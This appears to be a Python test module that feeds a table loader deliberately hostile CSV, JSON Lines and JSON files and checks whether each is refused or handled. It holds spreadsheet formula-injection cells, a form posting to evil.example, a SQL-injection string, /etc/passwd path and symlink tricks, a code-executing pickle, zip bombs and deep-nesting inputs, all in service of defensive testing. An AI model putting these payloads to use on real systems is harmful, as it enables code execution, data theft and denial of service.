"""Tables of text that mean harm: CSV, TSV and JSON Lines."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

from tests.hostile import add, case
from tests.hostile.making import EVIL, N, csv_of, csv_text, good_rows, lines_of, picture, with_column, written, zip_of

Made = dict[str, Any]
MB = 2**20
REFUSED = r"^refused: .*"
ANY = r"^(refused|left out|accepted)"


def _csv(name: str, make: Any, expects: str, **options: Any) -> None:
    add(f"csv: {name}", "tables", "table", lambda folder: csv_of(folder, make()), expects, **options)


def _lines(name: str, rows: Any, expects: str, **options: Any) -> None:
    add(f"jsonl: {name}", "tables", "table", lambda folder: lines_of(folder, rows()), expects, **options)


GOOD = csv_text(good_rows())
_csv("one field of 100 MB", lambda: with_column("note", ["x" * 100 * MB, *"y" * (N - 1)]), ANY, max_cpu_s=20)
_csv("a quote that is never closed", lambda: GOOD + 'r99,0.5,"dark\n' + "a,b,c\n" * 200_000, REFUSED + "quote|line")
_csv("quotes in quotes", lambda: GOOD + 'r99,0.5,"""""""""\n' * 40, ANY)
_csv("a header of 50,000 columns", lambda: _wide(50_000), REFUSED + "columns", slow=True)
_csv("a header of a million commas", lambda: "," * 1_000_000 + "\n1\n", REFUSED, slow=True)
_csv("a header alone", lambda: "id,loss\n", REFUSED + "no rows")
_csv("newlines alone", lambda: "\n" * 100_000, REFUSED)
_csv("a million commas in one row", lambda: GOOD + "," * 1_000_000, REFUSED + "line|columns")
_csv("rows of all lengths", lambda: "id,loss\n" + "".join("," * (i % 9) + "\n" for i in range(60)), REFUSED)
_csv("the same name three times", lambda: "id,loss,loss,loss\n" + "a,1,2,3\n" * 30, REFUSED + "occurs 3 times")
_csv("no column name", lambda: ",,\n" + "1,2,3\n" * 30, ANY)
_csv("zero bytes", lambda: b"id,loss\n" + b"a\0b,1\n" * 30, REFUSED + "zero byte")
_csv("zero bytes far behind", lambda: GOOD.encode() + b"x,0.1,dark\n" * 9000 + b"a\0b,1,\0\n", ANY)
_csv("all of it is one byte", lambda: b"\xff" * 100_000, REFUSED)
_csv("a million empty rows", lambda: "id,loss\n" + ",\n" * 1_000_000, REFUSED, max_cpu_s=15, slow=True)
_csv("every loss is nan", lambda: [{**row, "loss": "nan"} for row in good_rows()], REFUSED)
_csv("every loss is inf", lambda: [{**row, "loss": "inf"} for row in good_rows()], REFUSED)
_csv(
    "losses of 1e308", lambda: [{**row, "loss": f"{i + 1}e307"} for i, row in enumerate(good_rows(20))][:9] * 3, REFUSED
)
_csv("exponents of 1e999999999", lambda: with_column("x", ["1e999999999"] * N), ANY)
_csv("numbers of 4,000 digits", lambda: with_column("x", ["9" * 4000] * N), ANY)
_csv(
    "a number of a million digits as the loss",
    lambda: [{**r, "loss": "9" * 1_000_000} for r in good_rows(24)[:1]] + good_rows(),
    ANY,
)
_csv("ids that repeat", lambda: [{**row, "id": "same"} for row in good_rows()], REFUSED + "Ids must be unique")
_csv(
    "half of the ids repeat",
    lambda: [{**row, "id": f"r{i // 2}"} for i, row in enumerate(good_rows(60))],
    "^left out: .*occurs before",
)
_csv("ids of 64 KB", lambda: [{**row, "id": f"{i}" + "x" * 65_536} for i, row in enumerate(good_rows())], ANY)
_csv("cells that are formulas", lambda: with_column("note", ["=cmd|' /C calc'!A0"] * N), "^(accepted|left out)")
_csv("mixed ends of lines", lambda: GOOD.replace("\n", "\r\n", 3).replace("\n", "\r", 5), ANY)
_csv("lone returns alone", lambda: GOOD.replace("\n", "\r"), "^(accepted|left out)")
_csv("line separators of Unicode", lambda: with_column("note", ["a\u2028b\u2029c\x85d"] * N), ANY)
_csv("UTF-16 with its mark", lambda: GOOD.encode("utf-16"), "^(accepted|left out)")
_csv("UTF-16 without its mark", lambda: GOOD.encode("utf-16-le"), REFUSED + "zero bytes")
_csv("UTF-16 cut in the middle of a letter", lambda: GOOD.encode("utf-16")[:-1], ANY)
_csv("UTF-32", lambda: GOOD.encode("utf-32"), REFUSED)
_csv("UTF-7", lambda: b"id,loss,+ADw-img src+AD0-x+AD4-\n" + b"a,1,2\n" * 30, ANY)
_csv("no UTF-8", lambda: "id,loss,caf\xe9\n".encode("latin-1") + b"a,1,2\n" * 30, ANY)
_csv("surrogates in UTF-8", lambda: b"id,loss,\xed\xa0\x80\n" + b"a,1,2\n" * 30, ANY)
_csv("a separator that changes", lambda: "id;loss\n" + "a,1\n" * 15 + "b\t2\n" * 15, REFUSED)
_csv("decimal commas with thousands", lambda: "id;loss\n" + "".join(f"r{i};1.000,{i}\n" for i in range(30)), ANY)
_csv("dates of the year 300,000", lambda: with_column("date", ["300000-01-01"] * N), ANY)
_csv("dates of the year 9999 and 0001", lambda: with_column("date", ["9999-12-31", "0001-01-01"] * 12), ANY)
_csv(
    "nested arrays 10,000 deep in cells", lambda: with_column("embedding", ["[" * 10_000 + "1" + "]" * 10_000] * N), ANY
)
_csv("arrays of 100,000 numbers in cells", lambda: _arrays(100_000), ANY, max_cpu_s=20, slow=True)
_csv("arrays of other lengths in cells", lambda: _quoted("embedding", [str([1.5] * (i + 1)) for i in range(30)]), ANY)
_csv("arrays of 4,000 digits in cells", lambda: _quoted("embedding", ["[1, " + "9" * 5000 + "]"] * 30), ANY)
_csv("a note for each row that differs", lambda: with_column("note", ["x" * 5000 + str(i) for i in range(N)]), ANY)
_csv("20,000 classes in 40,000 rows", lambda: _classes(40_000), ANY, max_cpu_s=20, slow=True)
_csv("a gzip", lambda: gzip.compress(GOOD.encode()), REFUSED)
_csv("a Parquet file", lambda: b"PAR1" + bytes(500) + b"PAR1", REFUSED)
_csv("a picture", lambda: picture(), REFUSED)
_csv("an HTML page", lambda: f"<!doctype html><html>{EVIL}</html>\n" * 30, REFUSED)
_csv("a comma and nothing", lambda: ",", REFUSED)
_csv("one letter", lambda: "a", REFUSED)


def _wide(n: int) -> str:
    return (
        "id,loss,"
        + ",".join(f"c{i}" for i in range(n))
        + "\n"
        + "".join(f"r{i},{i}" + ",1" * n + "\n" for i in range(22))
    )


def _quoted(name: str, values: list[str]) -> str:
    return f"id,loss,{name}\n" + "".join(f'r{i},{i},"{value}"\n' for i, value in enumerate(values))


def _arrays(n: int) -> str:
    return _quoted("embedding", [str(list(range(i, n + i))) for i in range(22)])


def _classes(n: int) -> str:
    return "id,label,prediction\n" + "".join(f"r{i},c{i // 2},c{i // 3}\n" for i in range(n))


NAMES = {
    "HTML": EVIL,
    "a form over the page": '<form style="position:fixed;inset:0" action="http://evil.example"><input name=p></form>',
    "a link of Markdown": "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "ANSI codes": "\x1b[2J\x1b[31mred\x1b[0m",
    "right to left": "price\u202eesrever",
    "a bell and a backspace": "a\x07\x08b",
    "64 KB": "a" * 65_536,
    "a lone combining accent": "\u0301" * 500,
    "a template": "{{ 7 * 7 }}{% for x in [] %}",
    "a formula": '=HYPERLINK("http://evil.example")',
    "a path": "../../etc/passwd",
    "a role's pattern": "prob_*",
    "dots and brackets": "a.b[0].c",
    "an object's inside": "__class__",
    "nothing but spaces": "   ",
    "the quote of a message": "'; DROP TABLE x; --",
}
for what, name in NAMES.items():
    _csv(f"a column called by {what}", lambda name=name: _quoted_names(name), ANY)
    add(
        f"csv: a column called by {what} is named as the loss and is not there", "tables", "data",
        lambda folder, name=name: {**csv_of(folder, GOOD), "loss": name}, REFUSED + "no column",
    )  # fmt: skip


def _quoted_names(name: str) -> str:
    quoted = '"' + name.replace('"', '""') + '"'
    return f"id,loss,{quoted},{quoted}\n" + "a,1,2,3\n" * 30


_lines("10,000 lists deep", lambda: ["[" * 10_000 + "]" * 10_000] * 3, REFUSED + "(deep|nested|recursion)")
_lines(
    "10,000 objects deep in a cell",
    lambda: ['{"id": "a", "loss": 1, "x": ' + '{"a":' * 10_000 + "1" + "}" * 10_001] * 30,
    REFUSED,
)
_lines(
    "900 objects deep in a cell",
    lambda: [f'{{"id": "{i}", "loss": {i}, "x": ' + '{"a":' * 900 + "1" + "}" * 901 for i in range(30)],
    ANY,
)
_lines(
    "900 lists deep in a cell",
    lambda: [f'{{"id": "{i}", "loss": {i}, "x": ' + "[" * 900 + "1" + "]" * 900 + "}" for i in range(30)],
    ANY,
)
_lines("integers of 4,000 digits", lambda: [f'{{"id": "r{i}", "loss": {i}, "x": {"9" * 4000}}}' for i in range(N)], ANY)
_lines(
    "integers of 5,000 digits", lambda: [f'{{"id": "r{i}", "loss": {i}, "x": {"9" * 5000}}}' for i in range(N)], REFUSED
)
_lines("a loss of 400 digits", lambda: [f'{{"id": "r{i}", "loss": {"9" * 400}}}' for i in range(N)], ANY)
_lines("an id of 400 digits", lambda: [f'{{"id": {"9" * 400}{i}, "loss": {i}}}' for i in range(N)], ANY)
_lines(
    "a lone surrogate in a cell",
    lambda: [f'{{"id": "r{i}", "loss": {i}, "x": "\\ud800{i % 3}"}}' for i in range(N)],
    ANY,
)
_lines("a lone surrogate as the id", lambda: [f'{{"id": "\\ud800{i}", "loss": {i}}}' for i in range(N)], ANY)
_lines("a lone surrogate in a name", lambda: [f'{{"id": "r{i}", "loss": {i}, "\\udfff": 1}}' for i in range(N)], ANY)
_lines(
    "a zero byte in a name and cells",
    lambda: [f'{{"id": "r{i}", "loss": {i}, "a\\u0000": "\\u0000"}}' for i in range(N)],
    ANY,
)
_lines("NaN and Infinity", lambda: [f'{{"id": "r{i}", "loss": NaN, "x": -Infinity}}' for i in range(N)], REFUSED)
_lines(
    "other keys in each row",
    lambda: [{"id": f"r{i}", "loss": i, f"k{i}": 1} for i in range(5000)],
    ANY,
    max_cpu_s=20,
    slow=True,
)
_lines(
    "40,000 keys in one row",
    lambda: [{"id": "a", "loss": 1, **{f"k{i}": i for i in range(40_000)}}] * 21,
    REFUSED + "columns",
)
_lines("a key twice in one row", lambda: [f'{{"id": "r{i}", "loss": 1, "loss": {i}}}' for i in range(N)], ANY)
_lines("lists for rows", lambda: [[1, 2]] * 30, REFUSED + "object")
_lines("a number for a row", lambda: [*good_rows(), 3], REFUSED + "object")
_lines("null for a row", lambda: [*good_rows(), None], REFUSED + "object")
_lines("objects as ids", lambda: [{"id": {"a": i}, "loss": i} for i in range(N)], ANY)
_lines("lists as ids", lambda: [{"id": [i], "loss": i} for i in range(N)], ANY)
_lines("objects as conditions", lambda: [{"id": f"r{i}", "loss": i, "x": {"a": [i]}} for i in range(N)], ANY)
_lines(
    "objects as labels", lambda: [{"id": f"r{i}", "label": {"a": i % 2}, "prediction": {"a": 1}} for i in range(N)], ANY
)
_lines(
    "mixed kinds in one column",
    lambda: [{"id": f"r{i}", "loss": i, "x": [1, "a", None, {}, [2]][i % 5]} for i in range(N)],
    ANY,
)
_lines("true as the loss", lambda: [{"id": f"r{i}", "loss": bool(i % 2)} for i in range(N)], ANY)
_lines("HTML as ids and conditions", lambda: [{"id": f"{EVIL}{i}", "loss": i, "x": EVIL} for i in range(N)], ANY)
_lines("cut short", lambda: [*good_rows(), '{"id": "r99", "lo'], REFUSED + "invalid JSON")
_lines("noise", lambda: ["{]" * 100] * 30, REFUSED + "invalid JSON")


@case("json: a list of a million empty objects", "table", REFUSED, max_cpu_s=15, slow=True)
def _(folder: Path) -> Made:
    return written(folder, "t.json", "[" + "{}," * 1_000_000 + "{}]")


@case("json: 100,000 lists deep", "table", REFUSED + "(deep|nested|recursion)")
def _(folder: Path) -> Made:
    return written(folder, "t.json", "[" * 100_000 + "]" * 100_000)


@case("json: an object of columns", "table", REFUSED)
def _(folder: Path) -> Made:
    return written(folder, "t.json", json.dumps({"id": ["a"] * 30, "loss": [1] * 30}))


@case("json: 100 MB of spaces", "table", REFUSED, slow=True)
def _(folder: Path) -> Made:
    return written(folder, "t.json", b"[" + b" " * 100 * MB + b"]")


@case("csv: 4.5 GB of zeros in a file with a hole", "table", REFUSED + "the limit is")
def _(folder: Path) -> Made:
    with (folder / "t.csv").open("wb") as file:
        file.write(b"id,loss\n")
        file.seek(9 * 2**29)
        file.write(b"\n")
    return {"path": str(folder / "t.csv")}


@case("csv: 3 GB of zeros in a file with a hole", "table", REFUSED, slow=True)
def _(folder: Path) -> Made:
    with (folder / "t.csv").open("wb") as file:
        file.write(b"id,loss\n")
        file.seek(3 * 2**30)
        file.write(b"\n")
    return {"path": str(folder / "t.csv")}


@case("csv: a name that no file system takes", "table", REFUSED + "not found|no path|too long")
def _(folder: Path) -> Made:
    return {"path": str(folder / ("a" * 5000 + ".csv"))}


@case("csv: a link to /etc/passwd", "table", REFUSED)
def _(folder: Path) -> Made:
    (folder / "t.csv").symlink_to("/etc/passwd")
    return {"path": str(folder / "t.csv")}


@case("table: a pickle by its name", "table", REFUSED + "pickle")
def _(folder: Path) -> Made:
    return written(folder, "t.pkl", b"cos\nsystem\n(S'echo'\ntR.")


@case("table: two tables in one archive", "data", ANY)
def _(folder: Path) -> Made:
    return {
        "path": None,
        "images": str(zip_of(folder / "a.zip", {"metadata.csv": GOOD.encode(), "metadata.jsonl": b"{}"})),
    }


@case("table: in an archive, 300 MB of zeros", "data", REFUSED)
def _(folder: Path) -> Made:
    members = {"metadata.csv": b"file,loss\n" + bytes(200 * MB), "a.png": picture()}
    return {"path": None, "images": str(zip_of(folder / "a.zip", members))}


@case("table: in an archive, unpacked 200 times its size", "data", ANY, max_cpu_s=20, slow=True)
def _(folder: Path) -> Made:
    text = b"file,loss\n" + b"000.png,0.123456789\n" * (150 * MB // 20)
    import numpy as np

    noise = np.random.default_rng(0).bytes(MB)
    return {
        "path": None,
        "images": str(zip_of(folder / "a.zip", {"metadata.csv": text, "noise.bin": noise, "000.png": picture()})),
    }
